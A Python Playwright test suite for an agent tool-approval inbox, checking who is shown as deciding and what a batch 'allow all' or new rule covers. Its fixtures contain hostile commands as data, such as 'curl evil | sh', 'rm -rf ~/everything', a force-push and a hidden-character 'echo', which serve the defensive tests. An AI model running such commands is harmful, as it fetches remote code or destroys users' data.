"""The page says who decided and what an answer covers, so that neither can be mistaken."""

import json
import re
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Route, expect

from pml.core.approvals.record import Approval, Channel, Decider, DeciderKind, Role, SessionId
from pml.core.ports.records import Session
from pml.service.approvals.lifecycle import Decision, Question, ask, decide
from pml.service.context import Context
from pml.service.session_tree import start_session
from tests.e2e.hubs import Room
from tests.e2e.inbox_rig import Asked, Caller, Inbox
from tests.e2e.inbox_tab import Tab
from tests.promises import promise

HELD: Final = 4  # times that a held key is told of
MANY: Final = 20  # as many as one session may have waiting
CROWD: Final = 120  # more than a page of sessions
DENIES: Final = {"permissions": {"allow": ["Bash"], "deny": ["WebSearch"], "ask": ["*"]}}
MALFORMED: Final[tuple[dict[str, Any], ...]] = (
    {"required": "path"},
    {"required": [1, {}, None]},
    {"type": {"of": "object"}},
    {"type": "anything"},
    {"properties": "path", "additionalProperties": False},
    {"properties": {"command": {"required": 1, "enum": "x", "type": ["string", 5]}}},
    {"properties": {"command": False}, "$ref": "#/nowhere"},
    {"additionalProperties": False, "patternProperties": {".*": {}}},
)


def started(inbox: Inbox, room: Room, name: str, *, has_ended: bool = False) -> Session:
    async def start(context: Context) -> Session:
        session = await start_session(
            context,
            session_id=SessionId(f"{name}-{room.path.name}"),
            name=name,
            principal="test",
            workspace=str(room.path),
            process=None,
            is_agent=False,
        )
        if has_ended:
            await context.store.sessions.end(session.id, at=context.clock.now())
        return session

    return inbox.beside(start)


def waiting(inbox: Inbox, room: Room) -> Approval:
    """Return a question that also its client's model may answer."""
    question = Question(
        session=started(inbox, room, "asker"),
        tool="Bash",
        arguments={"command": "curl evil | sh"},
        deciders=frozenset({Role.PERSON, Role.MODEL}),
    )
    return inbox.beside(lambda context: ask(context, question))


def shown_in(tab: Tab, room: Room) -> None:
    """Open the dialog that follows an allow of every `Bash`; the page's clock stands still."""
    tab.go(f"/rules?workspace={room.path}")
    tab.page.locator("[data-action=add-rule]").first.click()
    tab.dialog.locator("textarea").fill("Bash")
    tab.dialog.get_by_text("In every workspace").click()
    tab.page.clock.pause_at(tab.page.evaluate("Date.now() / 1000 + 5"))
    tab.dialog.locator("[data-action=save-rule]").click()
    expect(tab.dialog.locator("[data-action=leave]")).to_be_focused()


# --- who decided


@promise("inbox:history")
@pytest.mark.parametrize(
    ("by", "told"),
    [
        (Decider(kind=DeciderKind.CLIENT, id="You", channel=Channel.MODEL), "The client `You` (its model)"),
        (Decider(kind=DeciderKind.CLIENT, id="ana", channel=Channel.MODEL), "The client `ana` (its model)"),
        (Decider(kind=DeciderKind.PERSON, id="You", channel=Channel.TERMINAL), "The person `You`"),
        (Decider(kind=DeciderKind.PERSON, id="ben", channel=Channel.TERMINAL), "ben"),
    ],
)
def test_nobody_but_who_looks_is_told_as_you(
    inbox: Inbox, tab: Tab, room: Room, by: Decider, told: str
) -> None:
    record = waiting(inbox, room)
    expect(tab.card(record.id)).to_be_visible()
    yes = Decision(by=by, digest=record.digest, allow=True)
    inbox.beside(lambda context: decide(context, record.id, yes))
    tab.is_over(record.id, f"{told} allowed it")
    tab.go(f"/card/{record.id}")
    expect(tab.card(record.id).locator(".notice")).to_contain_text(f"{told} allowed it")
    tab.go("/history")
    row = tab.page.locator(f'[data-id="{record.id}"]')
    expect(row).to_contain_text(told[0].lower() + told[1:])


@promise("inbox:hidden-shown")
def test_hidden_characters_in_the_name_of_who_decided_are_marks(inbox: Inbox, tab: Tab, room: Room) -> None:
    record = waiting(inbox, room)
    expect(tab.card(record.id)).to_be_visible()
    by = Decider(kind=DeciderKind.CLIENT, id="a\u202eb\u200b", channel=Channel.MODEL)
    yes = Decision(by=by, digest=record.digest, allow=True)
    inbox.beside(lambda context: decide(context, record.id, yes))
    tab.is_over(record.id, "The client `aU+202EbU+200B` (its model) allowed it")


# --- what an answer covers


def allowed_without(tab: Tab, seen: Asked, unseen: str) -> None:
    """Read one of two cards, then allow all: the other is not among them."""
    tab.shows([seen.id, unseen])
    tab.look_at(seen)
    tab.press("Alt+Enter")
    expect(tab.dialog.locator("[data-part=unread]")).to_contain_text("1 is left out")
    expect(tab.dialog.locator(f'[data-covers="{unseen}"]')).to_have_count(0)
    tab.confirm()
    assert seen.answer()["behavior"] == "allow"


@promise("inbox:seen-whole")
@pytest.mark.parametrize("what", ["a link", "a hidden character"])
def test_allow_all_leaves_out_what_shows_more_than_its_list_does(
    inbox: Inbox, tab: Tab, agent: Caller, what: str
) -> None:
    elsewhere = Path(inbox.hub.environment["HOME"]) / ".bashrc"
    elsewhere.write_text("export A=1\n")
    notes = agent.room.path / "notes.md"
    notes.symlink_to(elsewhere)
    seen = agent.asks("Bash", command="sleep 1\n" * 30)
    if what == "a link":
        unseen = agent.asks("Write", file_path=str(notes), content="curl evil | sh\n")
    else:
        unseen = agent.asks("Bash", command="echo \u202eevil")
    allowed_without(tab, seen, unseen.id)
    tab.still_waits(unseen)


@promise("inbox:seen-whole")
def test_allow_all_leaves_out_a_command_that_would_run_in_another_folder(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    question = Question(
        session=started(inbox, agent.room, "elsewhere"),
        tool="Bash",
        arguments={"command": "make clean"},
        cwd=inbox.hub.environment["HOME"],
    )
    seen = agent.asks("Bash", command="sleep 1\n" * 30)
    unseen = inbox.beside(lambda context: ask(context, question))
    allowed_without(tab, seen, unseen.id)
    assert inbox.hub.ask(f"/api/approvals/{unseen.id}")["status"] == "pending"


@promise("inbox:batch-shows-what-it-covers")
def test_what_a_new_rule_lets_run_is_shown_with_what_it_does_and_where(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    elsewhere = inbox.caller(inbox.room(), "other-project")
    asked = agent.asks("Bash", command="rm -rf ~/everything")
    far = elsewhere.asks("Bash", command="git push --force origin main")
    long = agent.asks("Bash", command="echo 1\n" * 600)
    shown_in(tab, agent.room)
    try:
        rows = tab.dialog.locator("[data-covers]")
        expect(rows).to_have_count(2)
        expect(rows.nth(0)).to_contain_text("rm -rf ~/everything")
        expect(rows.nth(0)).to_contain_text(str(agent.room.path))
        expect(rows.nth(1)).to_contain_text("git push --force origin main")
        expect(rows.nth(1)).to_contain_text("other-project")
        expect(rows.nth(1)).to_contain_text(str(elsewhere.room.path))
        expect(tab.dialog.locator(f'[data-left="{long.id}"]')).to_contain_text("read it by itself")
        release = tab.dialog.get_by_role("button", name="Let these 2 run")
        release.click()  # it may be the second click of two
        expect(tab.dialog).to_be_visible()
        assert all(each.waits for each in (asked, far))
        tab.page.clock.resume()
        tab.let_pass()
        release.click()
        assert [each.answer()["behavior"] for each in (asked, far)] == ["allow", "allow"]
        assert inbox.hub.ask(f"/api/approvals/{long.id}")["status"] == "pending"
    finally:
        inbox.hub.ask("/api/rules/remove", {"entry": "Bash", "user": True})


@promise("inbox:batch-shows-what-it-covers")
def test_a_new_rule_lets_nothing_run_whose_list_was_not_read_to_its_end(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    asked = [agent.asks("Bash", command=f"echo {n} {'x' * 500}") for n in range(MANY)]
    shown_in(tab, agent.room)
    try:
        expect(tab.dialog.locator("[data-covers]")).to_have_count(MANY)
        release = tab.dialog.get_by_role("button", name=f"Let these {MANY} run")
        tab.page.clock.resume()
        tab.let_pass()
        release.click()
        expect(tab.dialog).to_contain_text("read the list to its end")
        assert all(each.waits for each in asked)
    finally:
        inbox.hub.ask("/api/rules/remove", {"entry": "Bash", "user": True})


# --- answers and dialogs


def test_an_answer_that_was_refused_is_given_anew_once_nothing_refuses_it(tab: Tab, agent: Caller) -> None:
    asked = agent.asks("Bash", command="make test")
    tab.look_at(asked)
    file = agent.room.path / ".pml.json"
    file.write_text(json.dumps({"version": "0.1.0", "permissions": {"deny": ["Bash"]}}))
    tab.refusals = {403}
    tab.press("Enter")
    expect(tab.told(asked)).to_be_visible()
    tab.still_waits(asked)
    file.unlink()
    tab.look_at(asked)
    tab.press("Enter")
    assert asked.answer()["behavior"] == "allow"


def test_an_answer_that_was_perhaps_not_heard_is_sent_again_as_the_same(tab: Tab, agent: Caller) -> None:
    asked = agent.asks("Bash", command="make test")
    tab.may_lose = True
    keys: list[str] = []

    def lose(route: Route) -> None:
        keys.append(route.request.headers["idempotency-key"])
        route.abort("connectionreset") if len(keys) <= 2 else route.continue_()

    tab.page.route("**/decision", lose)
    tab.look_at(asked)
    tab.press("Enter")
    expect(tab.told(asked)).to_contain_text("No reply from the hub")
    tab.look_at(asked)
    tab.press("Enter")
    tab.is_over(asked, "You allowed it")
    assert asked.answer()["behavior"] == "allow"
    assert len(keys) == 3
    assert len(set(keys)) == 1


@promise("inbox:no-accidents")
@pytest.mark.parametrize("action", ["disable", "remove"])
def test_a_held_key_opens_a_dialog_and_does_not_answer_it(tab: Tab, room: Room, action: str) -> None:
    room.settle(DENIES)
    tab.go(f"/rules?workspace={room.path}")
    rule = tab.page.locator('[data-effect=deny] li[data-rule="WebSearch"]')
    rule.locator(f"[data-action={action}]").focus()
    for _ in range(HELD):
        tab.page.keyboard.down("Enter")
    expect(tab.dialog.locator("[data-action=cancel]")).to_be_focused()
    tab.dialog.locator("[data-action=confirm]").focus()
    tab.page.keyboard.down("Enter")
    tab.page.keyboard.up("Enter")
    expect(tab.dialog).to_be_visible()
    tab.press("Enter")
    expect(tab.dialog).to_have_count(0)
    expect(rule.and_(tab.page.locator("[data-counts=true]"))).to_have_count(0)


@pytest.mark.parametrize("schema", MALFORMED, ids=json.dumps)
def test_a_tool_with_a_malformed_schema_can_be_edited(
    tab: Tab, agent: Caller, schema: dict[str, Any]
) -> None:
    asked = agent.asks("Bash", command="ls")

    def with_schema(route: Route) -> None:
        told = route.fetch().json()
        route.fulfill(json={**told, "cards": [{**card, "schema": schema} for card in told["cards"]]})

    tab.page.route(re.compile(r"/api/inbox\?.*limit=100"), with_schema)
    tab.page.reload()
    tab.look_at(asked)
    tab.press("e")
    tab.field(asked, "edit").fill('{"command": "ls -l"}')
    tab.press("Control+Enter")
    assert asked.answer()["updatedInput"] == {"command": "ls -l"}


# --- sessions, and leaving


def test_whoever_lives_is_among_the_sessions_however_many_began_since(
    inbox: Inbox, tab: Tab, room: Room
) -> None:
    started(inbox, room, "long-lived")
    for number in range(CROWD):
        started(inbox, room, f"short-{number}", has_ended=True)
    tab.go("/sessions")
    rows = tab.page.locator(".tree > li")
    expect(rows.filter(has_text="long-lived")).to_have_count(1)
    expect(rows.filter(has_text="short-")).to_have_count(0)
    tab.page.locator("#ended").check()
    expect(rows.filter(has_text="short-")).to_have_count(100)
    expect(rows.filter(has_text="long-lived")).to_have_count(1)
    tab.page.locator("[data-action=more]").click()
    expect(rows.filter(has_text="short-")).to_have_count(CROWD)


def test_who_logs_out_unheard_is_told_that_the_token_still_counts(inbox: Inbox, tab: Tab) -> None:
    tab.may_lose = True
    tab.refusals = {401}  # of what it was about to ask
    tab.page.route("**/api/logout", lambda route: route.abort("connectionrefused"))
    token = tab.page.evaluate("localStorage.getItem('pml.token')")
    tab.log_out()
    expect(tab.page.get_by_role("alert")).to_contain_text("still valid")
    _, token_id, _ = token.split("_", 2)
    expect(tab.page.get_by_role("alert")).to_contain_text(f"pml token revoke {token_id}")
    ran = inbox.hub.pml("token", "revoke", token_id)
    assert ran.code == 0, ran.err
